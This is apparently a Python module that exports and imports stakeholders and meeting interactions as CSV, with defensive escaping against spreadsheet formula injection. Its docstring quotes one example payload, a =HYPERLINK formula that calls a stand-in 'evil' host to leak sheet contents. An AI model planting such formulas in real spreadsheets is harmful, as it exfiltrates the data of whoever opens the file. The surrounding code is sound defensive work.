"""CSV exports and imports of stakeholders and interactions, for spreadsheets.

**Formula injection.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and some also after a tab or carriage return) as a formula: a stakeholder called
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet when opened. On export such a cell gets
a leading ``'``, which spreadsheets show as text. So that our own import gives back exactly what
was exported, the import strips one leading ``'`` when what follows would have been escaped —
and, to keep that unambiguous, the export also escapes values that merely *start* with quotes
followed by a trigger (``'=x`` is written ``''=x``). :func:`escape` and :func:`unescape` are
exact inverses; a Hypothesis test holds them to it.

**Lists** (aliases, tags, stakeholders, roles, staff) are one cell, one item per line (names
never contain line breaks); ``list_separator`` reads hand-made files that use, say, ``;``.

**Imports** map columns to fields by header (case and spaces ignored) or an explicit mapping;
unknown columns are refused rather than silently dropped, our export's read-only columns (ids,
timestamps, versions, the readable ``dates``) are ignored. Every row runs in a savepoint of one
transaction, so all rows are checked and reported; if any fails, or on a dry run, everything is
rolled back. A stakeholder row is matched by name and an interaction row by uid: columns present
in the file set those fields (aliases are only ever added, never removed); columns absent leave
them alone.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import Any, Literal

from pydantic import ValidationError
from sqlalchemy import select
from sqlalchemy.orm import Session

from engagement import attribution
from engagement.errors import (
    EngagementError,
    ImportRowsRejected,
    TransferFileRejected,
    ValidationFailed,
)
from engagement.models import Interaction, Stakeholder
from engagement.names import fold_name
from engagement.schemas import (
    CsvImportReport,
    CsvRowResult,
    InteractionCreate,
    InteractionRead,
    StakeholderCreate,
    StakeholderRead,
    StakeholderUpdate,
    validated,
)
from engagement.schemas.base import clean_line
from engagement.schemas.transfer import period_from_iso
from engagement.services import interactions, stakeholders
from engagement.services.resolve import resolve
from engagement.vocab import Confidentiality, Precision

Kind = Literal["stakeholders", "interactions"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_DANGEROUS = re.compile(r"^'*[=+\-@\t\r]")
MAX_FIELD = 10 * 1024 * 1024

STAKEHOLDER_COLUMNS = [
    "id", "name", "kind", "country", "parent", "aliases", "tags", "email", "influence",
    "interest", "archived", "notes", "created_at", "updated_at", "version",
]  # fmt: skip
INTERACTION_COLUMNS = [
    "id", "uid", "title", "kind", "status", "dates", "start", "end", "precision", "timezone",
    "location", "stakeholders", "roles", "tags", "confidentiality", "staff", "recurrence",
    "logged_by", "summary", "outcome", "created_at", "updated_at", "version",
    "meeting_format", "sidelines_of", "languages", "interpreter", "attribution",
]  # fmt: skip
READ_ONLY = {"id", "created_at", "updated_at", "version", "dates"}
SYNONYMS = {"when": "start", "until": "end", "with": "stakeholders", "alias": "aliases"}
LIST_FIELDS = {"aliases", "tags", "stakeholders", "roles", "staff", "languages"}


def escape(value: str) -> str:
    """The cell as written: a leading ``'`` when a spreadsheet could run it as a formula."""
    return "'" + value if _DANGEROUS.match(value) else value


def unescape(cell: str) -> str:
    """The value a cell written by :func:`escape` stands for (exactly one quote removed)."""
    return cell[1:] if cell.startswith("'") and _DANGEROUS.match(cell[1:]) else cell


# --- export -------------------------------------------------------------------------------


def stakeholder_rows(items: Iterable[StakeholderRead]) -> list[list[str]]:
    rows = [STAKEHOLDER_COLUMNS]
    for item in items:
        values: dict[str, Any] = item.model_dump()
        values["parent"] = item.parent
        rows.append([_cell(values[column]) for column in STAKEHOLDER_COLUMNS])
    return rows


def interaction_rows(items: Iterable[InteractionRead]) -> list[list[str]]:
    rows = [INTERACTION_COLUMNS]
    for item in items:
        item = attribution.for_export(item)  # off-record notes stay in the database
        values: dict[str, Any] = item.model_dump()
        values["dates"] = item.when
        values["stakeholders"] = [p.name for p in item.participants]
        values["roles"] = [p.role.value for p in item.participants]
        rows.append([_cell(values[column]) for column in INTERACTION_COLUMNS])
    return rows


def encode(rows: Sequence[Sequence[str]]) -> str:
    """CSV text, every cell neutralised; written with a BOM so spreadsheets read UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for index, row in enumerate(rows):
        writer.writerow(row if index == 0 else [escape(cell) for cell in row])
    return out.getvalue()


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "\n".join(str(item) for item in value)
    if isinstance(value, datetime):
        return value.isoformat()
    return str(getattr(value, "value", value))


# --- import: reading and mapping columns -------------------------------------------------


def read(
    text: str, *, kind: Kind, source: str, mapping: dict[str, str]
) -> tuple[list[dict[str, str]], list[str]]:
    """The data rows as ``{field: value}`` (unescaped), and the columns ignored; refuses
    unknown or doubly mapped columns before anything is done."""
    csv.field_size_limit(MAX_FIELD)
    try:
        records = list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error as error:
        raise TransferFileRejected(source, [f"is not valid CSV ({error})"]) from None
    if not records:
        raise TransferFileRejected(source, ["is empty; the first row must name the columns"])
    known = set(STAKEHOLDER_COLUMNS if kind == "stakeholders" else INTERACTION_COLUMNS)
    wanted = {_header(key): _header(value) for key, value in mapping.items()}
    for column, field in wanted.items():
        if field and field not in known - READ_ONLY:
            raise TransferFileRejected(
                source,
                [f"--map {column}={field}: {kind} have no field {field!r}"],
                f"use one of {', '.join(sorted(known - READ_ONLY))}, or nothing to ignore it",
            )
    fields: list[str | None] = []
    ignored: list[str] = []
    problems: list[str] = []
    for header in records[0]:
        name = _header(header)
        field = wanted.get(name, SYNONYMS.get(name, name))
        if not field or field in READ_ONLY:
            fields.append(None)
            ignored.append(header)
        elif field in known:
            fields.append(field)
        else:
            fields.append(None)
            problems.append(f"column {header!r} is not a field of {kind}")
    doubled = sorted({f for f in fields if f is not None and fields.count(f) > 1})
    problems.extend(f"two columns give the field {field!r}" for field in doubled)
    if problems:
        raise TransferFileRejected(
            source, problems, 'map columns with --map "COLUMN=FIELD" (or "COLUMN=" to ignore)'
        )
    rows = []
    for record in records[1:]:
        if not any(cell.strip() for cell in record):
            continue
        rows.append(
            {
                field: unescape(cell)
                for field, cell in zip(fields, record, strict=False)
                if field is not None
            }
        )
    return rows, ignored


def _header(text: str) -> str:
    return re.sub(r"[\s-]+", "_", text.strip().casefold())


# --- import: applying rows ---------------------------------------------------------------


def apply(
    session: Session,
    rows: list[dict[str, str]],
    report: CsvImportReport,
    *,
    list_separator: str,
    now: datetime,
) -> CsvImportReport:
    """Apply every row in a savepoint; raise :class:`ImportRowsRejected` if any failed."""
    parents: list[tuple[CsvRowResult, str, str]] = []
    for index, values in enumerate(rows):
        result = CsvRowResult(row=index + 2, action="error", label=_label(values))
        report.rows.append(result)
        try:
            with session.begin_nested():
                if report.kind == "stakeholders":
                    _stakeholder(session, values, result, list_separator)
                    if "parent" in values:
                        parents.append((result, values.get("name", ""), values["parent"]))
                else:
                    _interaction(session, values, result, list_separator, now)
        except EngagementError as error:
            result.action, result.problem = "error", str(error)
    for result, name, parent in parents:
        if result.action == "error":
            continue
        try:
            with session.begin_nested():
                _set_parent(session, name, parent, result)
        except EngagementError as error:
            result.action, result.problem = "error", f"parent: {error}"
    failed = [row for row in report.rows if row.action == "error"]
    if failed:
        problems = [f"row {row.row} ({row.label}): {row.problem}" for row in failed]
        raise ImportRowsRejected(report.source, problems, report)
    return report


def _label(values: dict[str, str]) -> str:
    """What identifies the row in the report, cleaned: it is printed to a terminal."""
    text = values.get("name") or values.get("uid") or values.get("title") or ""
    return str(clean_line(text))[:60]


def _items(cell: str, separator: str) -> list[str]:
    parts = (
        cell.split("\n") if separator == "\n" else cell.replace("\n", separator).split(separator)
    )
    return [part.strip() for part in parts if part.strip()]


def _stakeholder(
    session: Session, values: dict[str, str], result: CsvRowResult, separator: str
) -> None:
    data: dict[str, Any] = {}
    for field in ("name", "kind", "country", "notes", "email", "influence", "interest"):
        if field in values:
            data[field] = values[field] if field in {"name", "notes"} else values[field] or None
    for field in ("aliases", "tags"):
        if field in values:
            data[field] = _items(values[field], separator)
    archived = _flag(values["archived"], "archived") if "archived" in values else None
    key = fold_name(str(data.get("name") or ""))
    existing = session.scalar(select(Stakeholder.id).where(Stakeholder.name_key == key))
    if existing is None:
        created = stakeholders.add(session, validated(StakeholderCreate, data))
        if archived:
            stakeholders.update(session, f"#{created.id}", StakeholderUpdate(archived=True))
        result.action = "add"
        return
    before = stakeholders.read(session, existing)
    changes = {
        field: value
        for field, value in validated(
            StakeholderUpdate, {k: v for k, v in data.items() if k not in {"name", "aliases"}}
        )
        .model_dump(exclude_unset=True)
        .items()
        if value != _comparable(getattr(before, field))
    }
    if archived is not None and archived != before.archived:
        changes["archived"] = archived
    if changes:
        stakeholders.update(session, f"#{existing}", validated(StakeholderUpdate, changes))
    known = {fold_name(alias) for alias in before.aliases} | {key}
    added = [a for a in validated(StakeholderCreate, {**data, "kind": before.kind}).aliases]
    for alias in added:
        if fold_name(alias) not in known:
            stakeholders.add_alias(session, f"#{existing}", alias)
            known.add(fold_name(alias))
            changes.setdefault("aliases", True)
    result.action = "update" if changes else "unchanged"
    result.changes = sorted(changes)


def _comparable(value: Any) -> Any:
    return getattr(value, "value", value)


def _set_parent(session: Session, name: str, parent: str, result: CsvRowResult) -> None:
    child = _stakeholder_named(session, name, field="name")
    target = _stakeholder_named(session, parent, field="parent") if parent.strip() else None
    if (None if target is None else target.id) == child.parent_id:
        return
    reference = None if target is None else f"#{target.id}"
    stakeholders.update(session, f"#{child.id}", StakeholderUpdate(parent=reference))
    if result.action == "unchanged":
        result.action = "update"
    if result.action == "update":
        result.changes = sorted({*result.changes, "parent"})


def _stakeholder_named(session: Session, name: str, *, field: str) -> Stakeholder:
    """The stakeholder whose canonical name this is, else whatever ``resolve`` finds (a name
    such as 'Embassy (CH)' must not be read as 'Embassy' in Switzerland when it exists)."""
    exact = session.scalars(
        select(Stakeholder).where(Stakeholder.name_key == fold_name(name))
    ).first()
    return exact if exact is not None else resolve(session, name, field=field)


def _interaction(
    session: Session, values: dict[str, str], result: CsvRowResult, separator: str, now: datetime
) -> None:
    uid = values.get("uid", "").strip()
    existing = interactions.find_by_uid(session, uid) if uid else None
    data: dict[str, Any] = {}
    if existing is not None:
        current = interactions.read(session, existing, today=now.date())
        data = _as_input(current)
    for field in ("title", "location", "summary", "outcome", "logged_by", "recurrence"):
        if field in values:
            data[field] = values[field] or (None if field == "recurrence" else "")
    for field in ("kind", "status", "confidentiality", "meeting_format", "attribution"):
        if values.get(field, "").strip():
            data[field] = values[field].strip().lower()
    if "meeting_format" in values and not values["meeting_format"].strip():
        data["meeting_format"] = None
    if "sidelines_of" in values:
        data["sidelines_of"] = values["sidelines_of"].strip() or None
    if values.get("interpreter", "").strip():
        data["interpreter"] = _flag(values["interpreter"], "interpreter")
    if existing is not None and current.attribution.value == "off_record":
        # An export withholds off-record notes: an empty cell is "not exported", not "erased".
        for field in ("summary", "outcome"):
            if field in values and not values[field]:
                data[field] = getattr(current, field)
    for field in ("tags", "staff", "languages"):
        if field in values:
            data[field] = _items(values[field], separator)
    if "stakeholders" in values:
        names = _items(values["stakeholders"], separator)
        roles = _items(values.get("roles", ""), separator)
        if roles and len(roles) != len(names):
            raise ValidationFailed("roles", values["roles"], "must give one role per stakeholder")
        delegates = (
            {p.name.casefold(): p.delegate for p in current.participants} if existing else {}
        )
        data["stakeholders"] = [
            {
                "name": f"#{_stakeholder_named(session, name, field='stakeholders').id}",
                "role": roles[index].lower() if roles else "counterpart",
                "delegate": delegates.get(name.casefold(), False),
            }
            for index, name in enumerate(names)
        ]
    if "start" in values:
        data.pop("period", None)
        data.update(_period_input(values))
    if uid:
        data["uid"] = uid
    created = validated(InteractionCreate, data)
    if existing is None:
        interactions.log(session, created, now=now)
        result.action = "add"
        return
    before = interactions.read(session, existing, today=now.date())
    interactions.replace(session, existing, created, now=now)
    after = interactions.read(session, existing, today=now.date())
    skip = {"id", "version", "created_at", "updated_at", "follow_ups", "when"}
    old, new = before.model_dump(exclude=skip), after.model_dump(exclude=skip)
    result.changes = sorted(field for field in new if new[field] != old[field])
    result.action = "update" if result.changes else "unchanged"


def _as_input(current: InteractionRead) -> dict[str, Any]:
    return {
        "title": current.title,
        "kind": current.kind,
        "status": current.status,
        "period": current.period,
        "location": current.location,
        "summary": current.summary,
        "outcome": current.outcome,
        "tags": current.tags,
        "confidentiality": current.confidentiality,
        "stakeholders": [
            {"name": f"#{p.id}", "role": p.role, "delegate": p.delegate}
            for p in current.participants
        ],
        "staff": current.staff,
        "recurrence": current.recurrence,
        "logged_by": current.logged_by,
        "meeting_format": current.meeting_format,
        "sidelines_of": current.sidelines_of,
        "languages": current.languages,
        "interpreter": current.interpreter,
        "attribution": current.attribution,
    }


def _period_input(values: dict[str, str]) -> dict[str, Any]:
    """An exported period (ISO at a stated precision) exactly; otherwise the text as people
    write it ('16 May 2025', 'June 30 to July 8 2025')."""
    start, end = values["start"].strip(), values.get("end", "").strip() or None
    zone = values.get("timezone", "").strip() or None
    precision = values.get("precision", "").strip().lower()
    if not precision:
        return {"when": start, "until": end, "timezone": zone}
    try:
        return {"period": period_from_iso(Precision(precision), zone, start, end)}
    except ValidationError as error:
        message = error.errors(include_url=False)[0]["msg"].removeprefix("Value error, ")
        raise ValidationFailed("start", start, f"does not make a period: {message}") from None
    except ValueError as error:
        raise ValidationFailed("start", start, f"does not make a period: {error}") from None


def _flag(value: str, field: str) -> bool:
    text = value.strip().lower()
    if text in {"true", "yes", "y", "1", "x"}:
        return True
    if text in {"false", "no", "n", "0", ""}:
        return False
    raise ValidationFailed(field, value, "is not true or false")


def interactions_query(cap: Confidentiality | None) -> Any:
    query = select(Interaction.id).order_by(Interaction.id)
    if cap is not None:
        query = query.where(
            Interaction.confidentiality.in_([level.value for level in cap.levels_up_to()])
        )
    return query
